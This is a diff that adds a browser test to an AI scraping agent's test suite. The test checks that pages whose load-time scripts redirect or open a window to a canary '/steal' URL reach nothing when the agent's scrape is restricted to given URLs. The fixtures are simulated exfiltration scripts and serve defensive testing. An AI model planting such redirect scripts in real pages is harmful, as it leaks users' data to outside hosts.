@@ -190,4 +190,27 @@ describe.skipIf(isRemote)("a model that obeys orders", () => {
     expect(state).toMatchObject({ status: "completed", data: { price: "34.90" } });
     expect(canary.asked).toEqual([]);
   }, 90_000);
+
+  it("strict, in a browser: a page that leaves by script or opens a window as it loads reaches nothing", async () => {
+    const app = (code: string): string =>
+      `<title>App</title><body><div id="root"></div><script>${code}</script></body>`;
+    const show = `root.innerHTML = '<h1>Offer</h1><p>The teapot costs €34.90 today and tomorrow.</p>'`;
+    await using site = await startPages({
+      "/leaves": app(`${show}; location.replace('${canary.url}/steal?d=1')`),
+      "/opens": app(`${show}; window.open('${canary.url}/steal?d=2')`),
+    });
+    const urls = [`${site.url}/leaves`, `${site.url}/opens`];
+    turns = [
+      { toolCalls: urls.map((url) => call("scrape", { url })) },
+      (request) => {
+        for (const text of tools(request)) expect(text).toContain("34.90");
+        return { toolCalls: [call("finish", { data: { price: "34.90" } })] };
+      },
+    ];
+    const state = await run({ prompt: "Price", urls, strictConstrainToURLs: true });
+    model.check();
+    expect(state).toMatchObject({ status: "completed", data: { price: "34.90" } });
+    expect(canary.asked).toEqual([]);
+    expect(canary.robots).toBe(0);
+  }, 90_000);
 });
